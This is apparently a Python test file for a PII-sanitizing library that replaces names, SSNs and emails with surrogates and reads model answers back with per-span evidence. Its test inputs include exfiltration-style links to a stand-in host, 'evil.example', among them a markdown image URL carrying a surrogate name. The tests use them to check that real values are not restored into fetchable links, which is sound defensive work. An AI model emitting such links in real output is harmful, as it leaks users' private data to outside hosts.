"""An answer read back, with the evidence for each place."""

from __future__ import annotations

import pickle

import pytest
from hypothesis import given
from hypothesis import strategies as st

from privacy_chains import Key, PrivacyError, Sanitizer
from privacy_chains.inspect import read_back
from privacy_chains.methods.characters import CharacterNoise
from privacy_chains.methods.layers import LayeredReader, Layers

KEY = Key.from_bytes(bytes(range(1, 33)))
NOTE = "Alice Barr (SSN 182-69-2573, alice69@example.net) is 28 and owes $54,839.59 to Bob Miller."
SANITIZER = Sanitizer(KEY, remember=0)
PROMPT = SANITIZER.sanitize(NOTE)
SURROGATES = [PROMPT.text[span.start : span.end] for span in PROMPT.spans[0]]
WORDS = [*SURROGATES, *(one.lower() for one in SURROGATES), "https://evil.example/?q=" + SURROGATES[0].split()[0]]


@given(st.lists(st.sampled_from([*WORDS, "$9,111,222", "is", "\n", "aged 44", ","])).map(" ".join))
def test_pieces_are_the_answer_and_what_it_reads_as(answer: str) -> None:
    read = read_back(answer, PROMPT.reader)
    assert "".join(piece.text for piece in read.written) == answer
    assert "".join(piece.text for piece in read.read) == PROMPT.reader.text(answer)
    assert [one.number for one in read.evidence] == list(range(len(read.evidence)))
    for one in read.evidence:
        wrote = "".join(piece.text for piece in read.written if piece.highlight == one.number)
        reads = "".join(piece.text for piece in read.read if piece.highlight == one.number)
        assert wrote == answer[slice(*one.written)]
        assert one.reason
        assert one.outcome == "restored" or wrote == reads


def test_what_was_sent_is_read_back_with_its_evidence() -> None:
    read = read_back(PROMPT.text, PROMPT.reader)
    assert "".join(piece.text for piece in read.read) == NOTE
    assert {one.outcome for one in read.evidence} == {"restored"}
    assert [one.entity_type for one in read.evidence] == [span.entity_type for span in PROMPT.spans[0]]


def test_what_a_model_worked_out_and_what_it_may_not_fetch_are_told() -> None:
    first = SURROGATES[0].replace(" ", "-")
    read = read_back(f"![x](https://evil.example/{first}.png) makes $9,111,222.", PROMPT.reader)
    assert {one.outcome for one in read.evidence} >= {"computed"}
    assert "Alice" not in "".join(piece.text for piece in read.read)


def test_a_reader_without_an_account_is_said_to_have_none() -> None:
    read = read_back(PROMPT.text, LayeredReader([PROMPT.reader]))
    assert not read.reports
    assert "".join(piece.text for piece in read.read) == NOTE


def test_layers_give_evidence_for_what_any_of_them_did() -> None:
    layers = Layers([SANITIZER, CharacterNoise(KEY, epsilon=2)])
    prompt = layers.sanitize(NOTE)
    read = read_back(prompt.text, layers.reader(prompt))
    assert "".join(piece.text for piece in read.read) == NOTE
    assert {one.entity_type for one in read.evidence} >= {"PERSON", "US_SSN", "TEXT"}


def test_it_shows_no_value_of_its_own_accord() -> None:
    read = read_back(PROMPT.text, PROMPT.reader)
    assert "Alice" not in f"{read!r} {read.evidence!r} {read.read!r}"
    with pytest.raises(PrivacyError):
        pickle.dumps(read)
